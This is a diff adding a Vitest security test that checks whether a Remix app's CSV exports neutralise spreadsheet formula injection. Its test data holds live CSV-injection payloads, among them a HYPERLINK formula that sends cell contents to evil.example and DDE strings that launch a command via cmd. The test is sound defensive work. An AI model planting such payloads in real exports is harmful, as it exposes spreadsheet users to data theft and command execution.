@@ -1,0 +1,97 @@
+/**
+ * CSV exports never hand Excel a formula. Every route that answers CSV (found
+ * by its file name `[.csv]` or a text/csv Content-Type in its source) needs an
+ * entry in EXPORTS; data that starts with = + - @, a tab or a carriage return
+ * is planted where the export reads it, and every cell of the result is checked.
+ */
+import fs from "node:fs";
+import path from "node:path";
+import type { LoaderFunctionArgs } from "@remix-run/node";
+import { beforeAll, describe, expect, it } from "vitest";
+import { db } from "~/db.server";
+import { ensureDistrictBranches } from "~/modules/branches/branches.server";
+import { csvCell } from "~/modules/goals/export.server";
+import { ensureGoals } from "~/modules/goals/seed-goals.server";
+import { parseCsv } from "~/modules/people/csv";
+import { createPerson, getRequest, settle, signedIn } from "./helpers";
+import { routeFiles } from "./remix-app";
+
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Klicka")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"];
+const context = { clientAddress: "203.0.113.88" };
+
+interface Export {
+  url: string;
+  loader: (args: LoaderFunctionArgs) => Promise<unknown>;
+  /** Puts FORMULAS where this export reads them; returns the texts that must appear (neutralised). */
+  plant: () => Promise<string[]>;
+}
+
+let admin: Awaited<ReturnType<typeof signedIn>>;
+
+const EXPORTS: Record<string, () => Promise<Export>> = {
+  "admin.goals.export[.csv].ts": async () => ({
+    url: "/admin/goals/export.csv?period=2026",
+    loader: (await import("~/routes/admin.goals.export[.csv]")).loader,
+    plant: async () => {
+      // Indicator names and definitions (admins edit them), branch names (an old import or a bug could
+      // store anything), and a person named like a formula in a counted position.
+      const indicators = await db.indicator.findMany({ orderBy: { key: "asc" }, take: 4 });
+      await db.indicator.update({ where: { id: indicators[0]!.id }, data: { name: FORMULAS[0]!, definition: FORMULAS[1]! } });
+      await db.indicator.update({ where: { id: indicators[1]!.id }, data: { name: FORMULAS[2]! } });
+      await db.indicator.update({ where: { id: indicators[2]!.id }, data: { name: FORMULAS[3]!, definition: FORMULAS[4]! } });
+      await db.branch.update({ where: { name: "Pajala" }, data: { name: FORMULAS[5]! } });
+      const person = await createPerson({ branch: "Kiruna", position: "kommunalrad" });
+      await db.person.update({ where: { id: person.id }, data: { name: FORMULAS[0]! } });
+      return FORMULAS;
+    },
+  }),
+};
+
+/** Route files that answer CSV: named `…[.csv]`, or setting a text/csv Content-Type. */
+function csvRoutes() {
+  const source = (file: string) => {
+    const full = path.resolve("app/routes", file);
+    if (!fs.statSync(full).isDirectory()) return fs.readFileSync(full, "utf8");
+    return fs.readdirSync(full).filter((f) => /\.tsx?$/.test(f)).map((f) => fs.readFileSync(path.join(full, f), "utf8")).join("\n");
+  };
+  return routeFiles().filter((file) => file.includes("[.csv]") || /["']?Content-Type["']?\s*[:,]\s*["'`]text\/csv/i.test(source(file)));
+}
+
+beforeAll(async () => {
+  await ensureDistrictBranches();
+  await ensureGoals();
+  admin = await signedIn({ roles: ["admin"] });
+});
+
+const DANGEROUS_START = /^[=+\-@\t\r]/;
+const NUMBER = /^-?\d+(?:[.,]\d+)?$/;
+
+describe("attack: CSV exports neutralise formulas", () => {
+  it("every CSV route has an entry here", () => {
+    const routes = csvRoutes();
+    expect(routes.length).toBeGreaterThan(0);
+    expect(routes.filter((r) => !(r in EXPORTS)), "CSV routes without an entry in EXPORTS").toEqual([]);
+  });
+
+  it.each(Object.keys(EXPORTS))("%s: no cell starts a formula, and the planted texts are there, neutralised", async (file) => {
+    const e = await EXPORTS[file]!();
+    const planted = await e.plant();
+    const res = await settle(() => e.loader({ request: getRequest(e.url, admin.cookie), context, params: {} }));
+    expect(res.status).toBe(200);
+    expect(res.headers.get("Content-Type")).toMatch(/^text\/csv/);
+    const rows = parseCsv(await res.text());
+    const cells = rows.flat();
+    const live = cells.filter((c) => DANGEROUS_START.test(c) && !NUMBER.test(c));
+    expect(live).toEqual([]);
+    for (const text of planted) expect(cells, JSON.stringify(text)).toContain(`'${text}`);
+  });
+
+  it("the cell writer quotes separators and line breaks, and leaves real numbers (also negative ones) alone", () => {
+    expect(csvCell('=HYPERLINK("http://evil")')).toBe(`"'=HYPERLINK(""http://evil"")"`);
+    expect(csvCell("Luleå; Piteå")).toBe('"Luleå; Piteå"');
+    expect(csvCell("rad 1\nrad 2")).toBe('"rad 1\nrad 2"');
+    expect(csvCell(-2.5)).toBe("-2,5");
+    expect(csvCell("-2,5 ändrat")).toBe("'-2,5 ändrat");
+    expect(csvCell(null)).toBe("");
+  });
+});
